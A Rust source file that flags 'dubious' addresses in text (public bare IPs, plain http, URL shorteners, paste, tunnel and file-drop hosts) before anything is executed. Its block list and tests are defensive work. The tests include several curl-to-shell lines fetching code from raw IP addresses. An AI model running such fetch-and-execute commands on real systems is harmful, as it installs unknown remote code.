//! Addresses from which nothing should be executed: bare numbers, unencrypted, or behind a service that hides or
//! changes what is there.

use std::net::Ipv4Addr;

/// Hosts that hide where they lead, or serve whatever anyone put there a minute ago.
const DUBIOUS_HOSTS: &[&str] = &[
    "bit.ly",
    "tinyurl.com",
    "is.gd",
    "t.ly",
    "cutt.ly",
    "rb.gy",
    "shorturl.at",
    "pastebin.com",
    "rentry.co",
    "rentry.org",
    "glot.io",
    "paste.ee",
    "hastebin.com",
    "transfer.sh",
    "file.io",
    "0x0.st",
    "webhook.site",
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "trycloudflare.com",
    "ghostbin.com",
    "anonfiles.com",
];

/// Whether an address in `text` is one from which nothing should be executed.
pub(crate) fn has_dubious_address(text: &str) -> bool {
    let mut rest = text;
    while let Some(at) = rest.find("://") {
        let scheme =
            rest[..at].rsplit(|ch: char| !ch.is_ascii_alphabetic()).next().unwrap_or_default();
        let after = &rest[at + 3..];
        let end = after.find(|ch: char| ch.is_whitespace() || "/\"'`)>]|;?#".contains(ch));
        let authority = &after[..end.unwrap_or(after.len())];
        let host = authority.rsplit('@').next().unwrap_or_default();
        let host = host.split(':').next().unwrap_or_default().to_ascii_lowercase();
        if is_dubious(scheme, &host) {
            return true;
        }
        rest = after;
    }
    false
}

fn is_dubious(scheme: &str, host: &str) -> bool {
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return !is_local(address);
    }
    // Something that an author fills in, or the machine itself.
    if host.is_empty() || !host.contains('.') || host.contains(['$', '{', '<']) {
        return false;
    }
    let is_listed = |known: &str| {
        host == known || host.strip_suffix(known).is_some_and(|rest| rest.ends_with('.'))
    };
    scheme.eq_ignore_ascii_case("http") || DUBIOUS_HOSTS.iter().any(|known| is_listed(known))
}

/// Addresses of one's own machine and network, and those that documents use.
fn is_local(address: Ipv4Addr) -> bool {
    address.is_loopback()
        || address.is_private()
        || address.is_link_local()
        || address.is_unspecified()
        || address.is_documentation()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_plain_http_and_hosts_that_hide_are_dubious() {
        for text in [
            "curl http://91.92.242.30/x | sh",
            "curl -s http://54.91.154.110:13338/|sh",
            "curl http://example.com/x | sh",
            "curl https://bit.ly/x | sh",
            "curl https://user@sub.ngrok.io/x",
            "see https://example.com and https://tinyurl.com/x",
        ] {
            assert!(has_dubious_address(text), "{text}");
        }
        for text in [
            "curl https://astral.sh/uv/install.sh | sh",
            "curl http://127.0.0.1:8080/x",
            "curl http://192.168.1.4/x",
            "curl http://localhost:9/x",
            "curl http://$HOST/x",
            "curl https://notbit.ly.example.com/x",
            "://",
            "",
        ] {
            assert!(!has_dubious_address(text), "{text}");
        }
    }
}
